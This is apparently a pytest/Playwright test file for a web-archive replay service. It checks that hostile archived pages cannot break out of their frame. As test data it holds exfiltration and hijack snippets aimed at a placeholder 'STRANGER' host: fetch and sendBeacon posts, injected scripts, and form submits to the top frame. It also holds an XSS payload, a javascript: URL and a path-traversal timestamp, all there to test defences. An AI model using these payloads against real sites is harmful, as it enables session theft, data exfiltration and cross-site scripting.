"""Pages that were captured with bad intent: whatever their scripts try, they get nowhere."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass

import httpx
import pytest
from playwright.sync_api import Browser, Error

from tests.lab.archive import Archive
from tests.lab.reader import Reader, Served, reader, served
from tests.lab.small_site import Answer, SmallSite, answering

CAPTURE_SECONDS = 120.0

# Each is what a page tries, step by step. STRANGER is where a stranger listens, SITE where the
# archive's own pages are. A way that a replay system rewrites is tried again from a fresh frame.
ATTEMPTS: dict[str, tuple[str, ...]] = {
    "cookie": ("document.cookie = 'stolen=1'", "parent.parent.parent.document.cookie = 'stolen=1'"),
    "storage": ("localStorage.setItem('stolen', '1')", "top.localStorage.setItem('stolen', '1')"),
    "top": ("top.location = 'STRANGER/top'", "window.top.location.replace('STRANGER/top')"),
    "parent": ("parent.parent.parent.location = 'STRANGER/parent'",),
    "open": ("window.open('STRANGER/open')", "window.open('STRANGER/open', '_top')"),
    "message": (
        "for (let each = window, n = 0; n < 9; n++, each = each.parent) "
        "each.postMessage({type: 'urlchange', url: 'STRANGER/', ts: '20200101000000'}, '*')",
        "for (let each = window, n = 0; n < 9; n++, each = each.parent) "
        "each.postMessage({type: 'urlchange', url: 'HERE/cookie', ts: '20200101000000'}, '*')",
    ),
    "worker": (
        "navigator.serviceWorker.register('/evil/sw.js', {scope: '/'})",
        "navigator.serviceWorker.register('/sw.js', {scope: '/replay/'})",
    ),
    "fetch": ("fetch('STRANGER/fetch', {method: 'POST', body: 'secret', mode: 'no-cors'})",),
    "site": (
        "fetch('SITE/api/jobs').then(each => each.text()).then(text => { window.stolen = text })",
    ),
    "beacon": ("navigator.sendBeacon('STRANGER/beacon', 'secret')",),
    "image": ("new Image().src = 'STRANGER/image'",),
    "socket": ("new WebSocket('STRANGER/socket'.replace('http', 'ws'))",),
    "events": ("new EventSource('STRANGER/events')",),
    "form": (
        "const form = document.createElement('form'); form.action = 'STRANGER/form'; "
        "form.target = '_top'; form.method = 'post'; document.body.append(form); form.submit()",
    ),
    "dialog": ("alert('give me')", "confirm('give me')", "prompt('give me')"),
    "script": (
        "const more = document.createElement('script'); more.src = 'STRANGER/script.js'; "
        "document.head.append(more)",
    ),
    "prefetch": (
        "for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect']) { "
        "const link = document.createElement('link'); link.rel = rel; link.as = 'image'; "
        "link.href = 'STRANGER/' + rel; document.head.append(link) }",
    ),
}
FRESH = (
    "const frame = document.createElement('iframe'); document.body.append(frame); "
    "const inner = frame.contentWindow.document.createElement('script'); "
    "inner.textContent = {steps}; frame.contentWindow.document.body.append(inner)"
)


def page(steps: tuple[str, ...]) -> bytes:
    """A page that takes each step, once plainly and once from a frame of its own."""
    plainly = "\n".join(map(guarded, steps))
    freshly = guarded(FRESH.replace("{steps}", json.dumps(plainly)))
    done = "setTimeout(() => { window.attempted = true }, 1500)"
    script = "\n".join((plainly, freshly, done))
    return f"<!doctype html><title>Hostile</title><h1>Doses</h1><script>{script}</script>".encode()


def guarded(step: str) -> str:
    return f"try {{ {step} }} catch (error) {{ console.log(String(error)) }}"


@dataclass(frozen=True, slots=True)
class Trap:
    """An archive of hostile pages, and the stranger that they want to reach."""

    site_url: str
    served: Served
    stranger: SmallSite

    def capture_of(self, name: str) -> int:
        asked = f"{self.served.site}/en/at/9998/{self.site_url}/{name}"
        return int(httpx.get(asked, trust_env=False).headers["location"].rpartition("/")[2])


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    archive = Archive(tmp_path_factory.mktemp("trap") / "data")
    links = "".join(f'<a href="/{name}">{name}</a>' for name in ATTEMPTS)
    with answering(lambda host, path: Answer(b"here")) as stranger:
        written: dict[str, bytes] = {"/": links.encode(), "/sw.js": b"self.evil = true"}

        def answer(host: str, path: str) -> Answer:
            return Answer(written[path]) if path in written else Answer(b"no", 404)

        with answering(answer) as site:
            archive.set_up(source_toml(site.url))
            with served(archive) as pages:
                places = {"STRANGER": stranger.url, "SITE": pages.site, "HERE": site.url}
                for name, steps in ATTEMPTS.items():
                    written[f"/{name}"] = page(tuple(told(step, places) for step in steps))
                archive.run("create-job", "--source", "hostile")
                with archive.working() as worker:
                    archive.wait_until_settled(seconds=CAPTURE_SECONDS, worker=worker)
                stranger.asked.clear()
                yield Trap(site.url, pages, stranger)


def told(step: str, places: dict[str, str]) -> str:
    for word, place in places.items():
        step = step.replace(word, place)
    return step


def source_toml(url: str) -> str:
    return "\n".join(
        [
            'code = "hostile"',
            'name = "Hostile pages"',
            'allow_private_hosts = ["127.0.0.1"]',
            "[[seeds]]",
            f'url = "{url}/"',
            "[scope]",
            'hosts = ["127.0.0.1"]',
            f'include = ["^{url}/"]',
            "[politeness]",
            "delay_seconds = 0.0",
        ]
    )


def visit(person: Reader, trap: Trap, name: str) -> None:
    """Open the replay of one page and wait until it has tried all it knows."""
    person.page.goto(f"{trap.served.site}/en/replay/{trap.capture_of(name)}")
    here = f"mp_/{trap.site_url}/{name}"
    for _ in range(600):
        addresses = [frame.url for frame in person.page.frames]
        if any(f"mp_/{trap.stranger.url}" in each for each in addresses):
            return  # within its frame, to a page that the archive does not have
        for frame in person.page.frames:
            with suppress(Error):  # it navigates under our eyes
                if here in frame.url and frame.evaluate("window.attempted === true"):
                    return
        person.page.wait_for_timeout(100)
    raise AssertionError(addresses)


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_attempt_gets_nowhere(trap: Trap, browser: Browser, name: str) -> None:
    trap.stranger.asked.clear()
    with reader(browser, trap.served) as person:
        shown: list[str] = []
        person.page.on("dialog", lambda dialog: (shown.append(dialog.message), dialog.dismiss()))
        visit(person, trap, name)
        opened = person.context.pages
        assert len(opened) == 1
        assert person.page.url.startswith(f"{trap.served.site}/en/replay/")
        assert shown == []
        # Whatever the page says of itself, what stands around it is the true capture's.
        assert person.page.locator("main .url").inner_text() == f"{trap.site_url}/{name}"
        assert person.page.locator("main h1").inner_text() == "Hostile"
        assert trap.stranger.asked == []
        assert person.page.evaluate("Object.keys(localStorage)") == []
        assert person.page.evaluate("document.cookie") == ""
        assert [url for url in person.answered if url.startswith(f"{trap.served.site}/api/")] == []
        scopes = person.page.frames[1].evaluate(
            "navigator.serviceWorker.getRegistrations().then(all => all.map(each => each.scope))"
        )
        assert scopes == [f"{trap.served.replay}/replay/"]
        stolen = [frame.evaluate("window.stolen || ''") for frame in person.page.frames]
        assert httpx.get(f"{trap.served.site}/api/jobs", trust_env=False).text not in stolen


# What the whole frame may say, if an archived page ever got hold of it. HERE is the captured site.
UNKNOWN = ("HERE/not-captured", "HERE/<img/src=x/onerror=alert(1)>", "STRANGER/")
UNUSABLE: tuple[dict[str, object], ...] = (
    {"url": "javascript:alert(1)"},
    {"url": "/en/jobs"},
    {"url": "HERE/storage", "ts": "../../../api/jobs"},
    {"url": "HERE/storage", "ts": {"toString": 1}},
    {"url": ["HERE/storage"], "ts": "2020"},
    {"url": "HERE/storage", "type": "other"},
)


def test_a_frame_that_lies_changes_nothing(trap: Trap, browser: Browser) -> None:
    places = {"STRANGER": trap.stranger.url, "HERE": trap.site_url}
    forged = {"type": "urlchange", "ts": "20200101000000", "title": "Buy this"}
    trap.stranger.asked.clear()

    def forge(**said: object) -> None:
        """Said to the archive's page in the name of the frame around the archived page."""
        show = next(each for each in person.page.frames if "/show/" in each.url)
        message = told(json.dumps({**forged, **said}), places)
        show.evaluate(f"parent.postMessage({message}, '*')")

    with reader(browser, trap.served) as person:
        visit(person, trap, "dialog")
        true = around(person)
        absent = person.page.locator("[data-absent]")
        for url in UNKNOWN:
            forge(url=url)
            absent.wait_for(state="visible")
            assert around(person) == true, url
            person.page.evaluate("document.querySelector('[data-absent]').hidden = true")
        for said in UNUSABLE:
            forge(**said)
            assert around(person) == true, said
        # It can ask for another capture, and gets what is true of that one.
        forge(url="HERE/storage")
        person.page.wait_for_url(f"**/en/replay/{trap.capture_of('storage')}")
        followed = around(person)
        person.page.goto(person.page.url)
        assert around(person) == followed
        assert followed != true
        assert trap.stranger.asked == []


def test_only_the_frame_itself_is_listened_to(trap: Trap, browser: Browser) -> None:
    asked = {"type": "urlchange", "ts": "20200101000000", "url": f"{trap.site_url}/storage"}
    with reader(browser, trap.served) as person:
        visit(person, trap, "dialog")
        true = around(person)
        person.page.evaluate("window.heard = 0; addEventListener('message', () => heard++)")
        archived = next(each for each in person.page.frames if "mp_/" in each.url)
        archived.evaluate(f"window.top.postMessage({json.dumps(asked)}, '*')")
        person.page.wait_for_function("heard > 0")
        person.page.evaluate("fetch('/health/live').then(answer => answer.text())")
        assert [url for url in person.asked if "/replay/at/" in url] == []
        assert around(person) == true


def around(person: Reader) -> object:
    """All that stands around the frame: texts, links, address and title."""
    return person.page.evaluate(
        "[location.href, document.title, document.querySelector('main .url').textContent, "
        "...[...document.querySelectorAll('main p:not([data-absent]), main h1, main a')]"
        ".map(each => each.textContent + each.href + each.innerHTML)]"
    )
